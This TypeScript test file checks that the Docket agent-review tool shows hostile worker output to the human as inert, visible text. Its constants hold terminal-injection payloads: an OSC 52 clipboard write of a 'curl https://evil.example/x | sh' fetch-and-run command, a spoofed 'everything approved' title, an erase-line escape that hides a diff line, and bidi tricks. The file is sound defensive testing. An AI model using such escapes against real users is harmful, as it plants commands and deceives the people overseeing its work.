// Worker text reaches the human's terminal inert: a hostile worker's clipboard and title writes,
// CR + erase-line, 8-bit CSI and bidi overrides are drawn visibly by every CLI verb and in the real pi (notices, dock,
// /docket output); --json keeps the exact bytes.

import { test } from "node:test";
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { ledgerCli } from "../support/hostile-worker.js";
import { docketWith, doneArgs, jsonOf, type CliRun } from "../support/docket-cli.js";
import { workerIdentityEnv } from "../support/launch-env.js";
import { parentFixture } from "../support/pi-parent.js";
import { isolatedWorker } from "../support/protocol-worker.js";

const OSC52 = `\x1b]52;c;${Buffer.from("curl https://evil.example/x | sh").toString("base64")}\x07`;
const TITLE = "\x1b]2;docket: everything approved\x07";
const ERASE = "\r\x1b[2K";
const CSI8 = "\u009b2J";
const BIDI = "\u202etxt.exe\u202c";
const ISOLATE = "\u2067hidden\u2069";
const HOSTILE = `${OSC52}${TITLE}safe to merge${ERASE}${CSI8}${BIDI}${ISOLATE}\u200b!`;

/** Any code point that drives a terminal or hides text (written here independently of Docket's own filter). */
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

/** What the filter shows the title write as: the escape as a control picture, the rest as text. */
const SHOWN_TITLE = "␛]2;docket: everything approved␇";

function assertInert(label: string, r: CliRun, expectShown: string[] = [SHOWN_TITLE]): void {
  assert.equal(r.code, 0, `${label}: exit ${r.code}; ${r.stderr}`);
  for (const [stream, text] of [
    ["stdout", r.stdout],
    ["stderr", r.stderr],
  ] as const) {
    const m = RAW.exec(text);
    assert.equal(
      m,
      null,
      `${label} wrote raw U+${m?.[0].codePointAt(0)?.toString(16).padStart(4, "0")} on ${stream}: ${JSON.stringify(text.slice(Math.max(0, (m?.index ?? 0) - 40), (m?.index ?? 0) + 40))}`,
    );
  }
  for (const s of expectShown)
    assert.ok(
      r.stdout.includes(s),
      `${label} shows ${JSON.stringify(s)} visibly: ${JSON.stringify(r.stdout.slice(0, 600))}`,
    );
}

/** A --json document: no raw hidden code point on the wire, and the exact worker bytes once parsed. */
function assertJsonExact(label: string, r: CliRun, pick: (j: any) => unknown, expected: unknown): void {
  assert.equal(r.code, 0, `${label}: ${r.stderr}`);
  assert.equal(RAW.exec(r.stdout), null, `${label} --json escapes every hidden code point`);
  assert.deepEqual(pick(JSON.parse(r.stdout)), expected, `${label} --json keeps the worker's exact text`);
}

test("a hostile version's summary, evidence, recommendations, body, file names and patch lines print inert on every review verb", (t) => {
  const g = ledgerCli(t);
  const w = isolatedWorker(t, g.ctx);
  const run = g.human(w);
  const hostileName = `src/${TITLE}${BIDI}.ts`;
  writeFileSync(join(w.workspace, "src/app.txt"), `one\ncurl https://evil.example/x | sh${ERASE}\nthree\n`);
  writeFileSync(join(w.workspace, hostileName), `${OSC52}\n`);
  const body = `# Findings\n\n${HOSTILE}\n`;
  jsonOf(g.worker(w)([...doneArgs(HOSTILE), "--json", "--evidence", `test=${HOSTILE}`, "--recommend", HOSTILE], body));

  assertInert("verdict w1", run("verdict", w.worker));
  assertInert("verdict (queue)", run("verdict"));
  assertInert("report w1", run("report", w.worker));
  const diff = run("diff", w.worker);
  assertInert("diff w1", diff, ["curl https://evil.example/x | sh␍␛[2K"]);
  assert.match(
    diff.stdout,
    /^\+curl https:\/\/evil\.example\/x \| sh␍␛\[2K$/m,
    "the hidden added line stays on the screen, its CR and erase shown",
  );

  const report = run("report", w.worker, "--json");
  // The summary is one line (Docket turns its CR into a space); every other field keeps the worker's bytes as given.
  assertJsonExact("report", report, (j) => [j.summary, j.body, j.evidence[0].text, j.recommendations[0]], [
    HOSTILE.replace("\r", " "),
    body,
    HOSTILE,
    HOSTILE,
  ]);
  assert.ok(
    report.json.changeSet.files.some((f: { path: string }) => f.path === hostileName),
    "the exact file name in --json",
  );
  assertJsonExact("diff", run("diff", w.worker, "--json"), (j) => j.patch.includes(`sh${ERASE}\n`), true);

  // Judged and landed: the promotion's file list, the decision log, the journal, the store and its preview.
  jsonOf(run("approve", w.worker, "--json"));
  const promoted = run("promote", w.worker, "--yes");
  // File names are quoted the way git quotes them: one line each, every control and non-ASCII byte as an octal escape.
  assertInert("promote", promoted, [
    `  "src/\\033]2;docket: everything approved\\a\\342\\200\\256txt.exe\\342\\200\\254.ts"\n`,
  ]);
  assertInert("log", run("log"), ["⟨U+202E⟩"]);
  assertInert("journal", run("journal"));
  const saved = jsonOf(run("save", "--from", w.worker, "--json"));
  assertInert("deliverables", run("deliverables"));
  assertInert("preview", run("preview", saved.ref));
  assertInert("show w1", run("show", w.worker), []);
});

test("a hostile question, its options, a consult, a note, a blocked report and a failure print inert where the human reads them", (t) => {
  const g = ledgerCli(t);
  const asker = isolatedWorker(t, g.ctx);
  const run = g.human(asker);
  const consulter = isolatedWorker(t, g.ctx, { project: asker.project, runToken: "token-2" });
  const failer = isolatedWorker(t, g.ctx, { project: asker.project, runToken: "token-3" });
  const reporter = isolatedWorker(t, g.ctx, { project: asker.project, runToken: "token-4" });

  jsonOf(
    g.worker(asker)([
      "worker",
      "wait",
      "--json",
      "--question",
      HOSTILE,
      "--option",
      HOSTILE,
      "--option",
      `plain ${BIDI}`,
      "--recommend",
      HOSTILE,
      "--risk",
      HOSTILE,
    ]),
  );
  jsonOf(
    g.worker(consulter)([
      "worker",
      "consult",
      "--json",
      "--question",
      HOSTILE,
      "--context",
      HOSTILE,
      "--option",
      HOSTILE,
    ]),
  );
  // A note may not hold a control character (refused at the door); bidi and zero-width marks still get through it.
  jsonOf(g.worker(consulter)(["worker", "note", "--json", `approve w3 now ${BIDI}${ISOLATE}\u200b`]));
  jsonOf(g.worker(failer)(["worker", "fail", "--json", "--reason", HOSTILE]));
  const item = jsonOf(run("item", "add", "--json", "ship the thing"));
  jsonOf(run("dispatch", reporter.worker, item.id, "--json"));
  jsonOf(
    g.worker(reporter)([
      "worker",
      "report",
      "--json",
      "--item",
      item.id,
      "--outcome",
      "blocked",
      "--body",
      HOSTILE,
      "--for-human",
      HOSTILE,
    ]),
  );

  assertInert("verdict (asker)", run("verdict", asker.worker));
  assertInert("verdict (consulter)", run("verdict", consulter.worker));
  assertInert("verdict (failer)", run("verdict", failer.worker));
  assertInert("show (asker)", run("show", asker.worker));
  assertInert("show (failer)", run("show", failer.worker));
  assertInert("attention", run("attention"), [SHOWN_TITLE, "⟨U+2067⟩hidden⟨U+2069⟩"]);
  assertInert("item show", run("item", "show", item.id));
  assertInert("verdict (queue)", run("verdict"), []);
  assertInert("ls", run("ls"), []);

  const attention = run("attention", "--json");
  assertJsonExact(
    "attention",
    attention,
    (j) =>
      j.notifications.some(
        (n: { body: string; forHuman: string[] }) => n.body === HOSTILE || n.forHuman.includes(HOSTILE),
      ),
    true,
  );
  assertJsonExact("show", run("show", failer.worker, "--json"), (j) => j.lastError, HOSTILE);
});

test("a refusal that names a hostile file name prints it inert on stderr, and in --json as the exact name", (t) => {
  const g = ledgerCli(t);
  const w = isolatedWorker(t, g.ctx);
  const run = g.human(w);
  const hostileName = `src/${TITLE}${ERASE}${BIDI}.ts`;
  writeFileSync(join(w.workspace, hostileName), "from the worker\n");
  jsonOf(g.worker(w)([...doneArgs("adds one file"), "--json"], "body"));
  jsonOf(run("approve", w.worker, "--json"));
  writeFileSync(join(w.project, hostileName), "the human's own file\n"); // git apply --check refuses to overwrite it
  const refused = run("promote", w.worker, "--yes");
  assert.equal(refused.code, 1, refused.stdout + refused.stderr);
  assert.equal(RAW.exec(refused.stderr), null, `the refusal is inert: ${JSON.stringify(refused.stderr)}`);
  assert.ok(
    refused.stderr.includes("⟨U+202E⟩txt.exe⟨U+202C⟩.ts"),
    `the refusal names the file visibly: ${refused.stderr}`,
  );
  const json = run("promote", w.worker, "--yes", "--json");
  assert.equal(json.code, 1);
  assert.equal(RAW.exec(json.stdout), null, "the --json refusal escapes every hidden code point");
  assert.ok(JSON.parse(json.stdout).error.message.includes(`${BIDI}.ts`), "and keeps the exact characters");
});

test("in the real pi, a hostile worker's question, note and version reach the human's notices, dock and /docket output inert", {
  timeout: 300_000,
}, async (t) => {
  const p = parentFixture(t);
  const pi = p.start();
  await pi.call({ type: "get_state" });
  assert.equal(p.cli("spawn", "--agent", "command", "--cmd", "sleep 600", "--yes", "--json", "look around").code, 0);
  assert.equal(p.cli("spawn", "--agent", "command", "--cmd", "sleep 600", "--yes", "--json", "write it up").code, 0);
  assert.equal(
    p.asWorker("w1", "worker", "wait", "--question", HOSTILE, "--option", HOSTILE, "--risk", HOSTILE, "--json").code,
    0,
  );
  assert.equal(p.asWorker("w1", "worker", "note", `heads up ${BIDI}${ISOLATE}`, "--json").code, 0);
  const done = docketWith(
    {
      env: { ...p.env, ...workerIdentityEnv(p.home, "w2") },
      cwd: join(p.home, "fleet", "w2", "workspace"),
      input: `# Body\n${HOSTILE}\n`,
    },
    "worker",
    "done",
    "--outcome",
    "findings",
    "--summary",
    HOSTILE,
    "--evidence",
    `note=${HOSTILE}`,
    "--json",
  );
  assert.equal(done.code, 0, done.stderr);

  const asked = await pi.waitFor(
    "w1's question notice",
    (m) => m.method === "notify" && String(m.message).includes("w1 asks"),
    { timeoutMs: 120_000 },
  );
  assert.ok(String(asked.message).includes(SHOWN_TITLE), String(asked.message));
  await pi.waitFor(
    "w2's ready notice",
    (m) => m.method === "notify" && String(m.message).includes("w2 is ready for review"),
    { timeoutMs: 120_000 },
  );
  await pi.waitFor("w1's note", (m) => m.method === "notify" && String(m.message).includes("⟨U+202E⟩txt.exe"), {
    timeoutMs: 120_000,
  });
  for (const verb of ["report w2", "attention", "show w1"]) {
    // verdict and diff open pi views (drawn through the card's own filter)
    const from = pi.seen.length;
    await pi.call({ type: "prompt", message: `/docket ${verb}` });
    await pi.waitFor(`/docket ${verb}'s output`, (m) => m.method === "notify", { from, timeoutMs: 60_000 });
  }
  const shown = pi.ui("notify").map((m) => String(m.message));
  const docks = pi.ui("setWidget").flatMap((m) => (m.widgetLines ?? []) as string[]);
  for (const text of [...shown, ...docks]) {
    const m = RAW.exec(text);
    assert.equal(
      m,
      null,
      `pi was handed a raw U+${m?.[0].codePointAt(0)?.toString(16)}: ${JSON.stringify(text.slice(0, 300))}`,
    );
  }
  assert.ok(
    shown.filter((s) => s.includes(SHOWN_TITLE)).length >= 5,
    "the worker's text is shown visibly, not dropped",
  );
  assert.equal(await pi.close(), 0);
});
